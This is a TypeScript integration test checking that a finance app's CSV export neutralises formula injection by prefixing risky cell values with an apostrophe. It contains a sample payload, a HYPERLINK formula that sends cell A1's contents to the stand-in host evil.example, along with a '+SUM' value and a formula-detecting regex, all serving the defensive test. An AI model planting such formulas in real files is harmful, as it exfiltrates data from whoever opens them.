import { expect } from 'chai';
import { strFromU8, unzipSync } from 'fflate';
import { PERSONAS, signInOnboarded } from '../../support/sign-in.js';
import { appPerSuite } from '../../support/test-app.js';

const HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';
const SUM = '+SUM(1+1)';

/** The cells of one CSV line as RFC 4180 reads them (quoted fields may hold commas and doubled quotes). */
function cells(line: string): string[] {
  const out: string[] = [];
  let at = 0;
  while (at <= line.length) {
    if (line[at] === '"') {
      let value = '';
      at++;
      while (at < line.length) {
        if (line[at] === '"' && line[at + 1] === '"') {
          value += '"';
          at += 2;
        } else if (line[at] === '"') {
          at++;
          break;
        } else value += line[at++];
      }
      out.push(value);
      at++; // the comma
    } else {
      const end = line.indexOf(',', at) === -1 ? line.length : line.indexOf(',', at);
      out.push(line.slice(at, end));
      at = end + 1;
    }
  }
  return out;
}

/** The rows of a CSV file as objects by header (no cell of these files holds a line break). */
function rowsOf(csv: string): Record<string, string>[] {
  const [header, ...lines] = csv.split('\r\n').filter((l) => l !== '');
  const names = cells(header!);
  return lines.map((line) => Object.fromEntries(cells(line).map((value, i) => [names[i], value])));
}

/**
 * GET /export?format=zip against the real server (docs/api.md "GET /export?format=zip"; OWASP "CSV Injection"): names
 * a resident typed that a spreadsheet would run as formulas reach the CSV files with a leading apostrophe, the
 * amounts stay numbers, the README says why, and the JSON export keeps the names exactly as typed.
 */
describe('Data import: no formulas in the exported CSV files', () => {
  const t = appPerSuite({ env: { RATE_LIMIT_EXPORT_PER_MINUTE: '1000' } });

  it('writes a typed name that starts like a formula with a leading apostrophe, and says so in the README', async () => {
    const client = t.client();
    await signInOnboarded(client, PERSONAS.bernardWong);
    const income = await client.post('/api/v1/income', { incomeList: [{ name: HYPERLINK, grossIncome: 600_000, netIncome: 480_000, incomeCurrency: 'SGD', type: 'EMPLOYMENT' }] });
    expect(income.status, income.text).to.equal(200);
    const liability = await client.post('/api/v1/liability', { name: SUM, amount: 2_000_000, ccy: 'SGD', category: 'NON_MORTGAGE' });
    expect(liability.status, liability.text).to.equal(200);

    const res = await fetch(`${t.app.url}/api/v1/export?format=zip`, { headers: { cookie: `mmp.sid=${client.cookie('mmp.sid')}; mmp.sid.sig=${client.cookie('mmp.sid.sig')}` } });
    expect(res.status).to.equal(200);
    expect(res.headers.get('content-type')).to.contain('application/zip');
    const files = unzipSync(new Uint8Array(await res.arrayBuffer()));

    const incomesCsv = strFromU8(files['incomes.csv']!);
    // The raw line: the apostrophe is the first character of the cell's value, inside the RFC 4180 quotes.
    expect(incomesCsv).to.contain(`,"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")",`);
    const [incomeRow] = rowsOf(incomesCsv);
    expect(incomeRow).to.include({ name: `'${HYPERLINK}`, gross: '6000.00', net: '4800.00', gross_currency: 'SGD' });

    const liabilitiesCsv = strFromU8(files['liabilities.csv']!);
    expect(liabilitiesCsv).to.contain(`,'${SUM},`);
    const [liabilityRow] = rowsOf(liabilitiesCsv);
    expect(liabilityRow).to.include({ name: `'${SUM}`, amount: '20000.00', currency: 'SGD', category: 'NON_MORTGAGE' });

    // No cell of any CSV file starts a formula.
    for (const [name, bytes] of Object.entries(files).filter(([n]) => n.endsWith('.csv'))) {
      for (const row of rowsOf(strFromU8(bytes))) {
        for (const [column, value] of Object.entries(row)) expect(value, `${name} ${column}`).not.to.match(/^[=+@\t\r]|^-(?!\d+(\.\d+)?$)/);
      }
    }

    expect(strFromU8(files['README.txt']!)).to.contain("begins with an apostrophe (')");

    // The JSON export, which an import reads back, keeps the names exactly as typed.
    const json = await client.get('/api/v1/export');
    expect(json.body.incomes.map((i: { name: string }) => i.name)).to.include(HYPERLINK);
    expect(json.body.liabilities.map((l: { name: string }) => l.name)).to.include(SUM);
  });
});
